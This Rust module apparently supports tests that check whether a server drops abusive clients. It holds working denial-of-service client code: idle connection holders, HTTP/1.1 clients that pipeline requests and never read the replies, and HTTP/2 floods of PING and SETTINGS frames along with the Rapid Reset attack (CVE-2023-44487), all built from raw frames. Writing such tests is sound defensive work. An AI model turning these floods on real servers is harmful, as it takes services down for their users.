//! Those who mean no good, or whose network is bad: from addresses of their own, over raw bytes where a client would be
//! too polite. What they do goes on until they are dropped.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::timeout;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// How long a connection that is turned away may take to be closed, and one that is let in must stay open at least.
const TURNED_AWAY: Duration = Duration::from_millis(500);

/// A connection from this address that says nothing.
///
/// # Errors
/// When it cannot be made.
pub async fn silent(from: Ipv4Addr, at: SocketAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((from, 0).into())?;
    socket.connect(at).await.context("no connection")
}

/// Whether the other side has let this connection in: it closes one that it does not want at once.
pub async fn is_let_in(stream: &mut TcpStream) -> bool {
    timeout(TURNED_AWAY, stream.read_u8()).await.is_err()
}

/// A TLS connection from this address that speaks `protocol`.
///
/// # Errors
/// When there is none.
pub async fn tls(
    ca: &Path,
    from: Ipv4Addr,
    at: SocketAddr,
    protocol: &str,
) -> Result<TlsStream<TcpStream>> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(ca)?)?;
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let mut config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()?
        .with_root_certificates(roots)
        .with_no_client_auth();
    config.alpn_protocols = vec![protocol.as_bytes().to_vec()];
    let stream = silent(from, at).await?;
    let connected = TlsConnector::from(Arc::new(config))
        .connect(ServerName::try_from("localhost")?, stream)
        .await;
    connected.context("no encryption")
}

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let [_, a, b, c] = length.to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A crowd of attackers, each of whom begins again when it is cut off.
pub struct Attack(JoinSet<()>);

impl Attack {
    /// Nobody yet.
    pub fn new() -> Attack {
        Attack(JoinSet::new())
    }

    /// Connections that say nothing, `count` at a time.
    pub fn silence(&mut self, from: Ipv4Addr, at: SocketAddr, count: usize) {
        for _ in 0..count {
            self.0.spawn(async move {
                loop {
                    if let Ok(mut stream) = silent(from, at).await {
                        drop(stream.read_u8().await);
                    }
                    breathe().await;
                }
            });
        }
    }

    /// Readers who ask for `path` again and again and read nothing of it.
    pub fn standstill(
        &mut self,
        ca: &Path,
        from: Ipv4Addr,
        at: SocketAddr,
        path: &str,
        count: usize,
    ) {
        let request = format!(
            "GET {path} HTTP/1.1\r\nhost: localhost:{}\r\n\r\n",
            at.port()
        )
        .repeat(50);
        for _ in 0..count {
            let (ca, request) = (ca.to_owned(), request.clone());
            self.0.spawn(async move {
                loop {
                    if let Ok(mut stream) = tls(&ca, from, at, "http/1.1").await {
                        // Ends only when the other side leaves: nothing is read, so nothing more can be written.
                        while stream.write_all(request.as_bytes()).await.is_ok() {}
                    }
                    breathe().await;
                }
            });
        }
    }

    /// HTTP/2 connections on which the same frames come as fast as they are taken.
    fn flood(
        &mut self,
        ca: &Path,
        from: Ipv4Addr,
        at: SocketAddr,
        next: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
    ) {
        let ca = ca.to_owned();
        self.0.spawn(async move {
            loop {
                if let Ok(stream) = tls(&ca, from, at, "h2").await {
                    let (mut reading, mut writing) = tokio::io::split(stream);
                    // Reads until the connection ends, so that nothing stands in the way of the flood.
                    let read = tokio::spawn(async move {
                        let mut part = vec![0; 16 * 1024];
                        while let Ok(1..) = reading.read(&mut part).await {}
                    });
                    let opening = [PREFACE, &frame(4, 0, 0, &[])].concat();
                    let mut open = writing.write_all(&opening).await.is_ok();
                    let mut stream_id = 1;
                    while open && stream_id < u32::MAX / 4 {
                        let frames: Vec<u8> =
                            (0..50).flat_map(|it| next(stream_id + 2 * it)).collect();
                        stream_id += 100;
                        open = writing.write_all(&frames).await.is_ok()
                            && writing.flush().await.is_ok();
                    }
                    read.abort();
                }
                breathe().await;
            }
        });
    }

    /// Requests that are taken back at once (CVE-2023-44487).
    pub fn rapid_reset(&mut self, ca: &Path, from: Ipv4Addr, at: SocketAddr) {
        let host = format!("localhost:{}", at.port());
        let mut head = vec![0x82, 0x87, 0x84, 0x41, host.len() as u8];
        head.extend_from_slice(host.as_bytes());
        self.flood(ca, from, at, move |stream| {
            [
                frame(1, 5, stream, &head),
                frame(3, 0, stream, &[0, 0, 0, 8]),
            ]
            .concat()
        });
    }

    /// PING after PING.
    pub fn pings(&mut self, ca: &Path, from: Ipv4Addr, at: SocketAddr) {
        self.flood(ca, from, at, |_| frame(6, 0, 0, &[0; 8]));
    }

    /// SETTINGS after SETTINGS.
    pub fn settings(&mut self, ca: &Path, from: Ipv4Addr, at: SocketAddr) {
        self.flood(ca, from, at, |_| frame(4, 0, 0, &[]));
    }
}

async fn breathe() {
    // waits because an attacker who is turned away takes a moment to come back, and the machine is ours as well
    tokio::time::sleep(Duration::from_millis(20)).await;
}
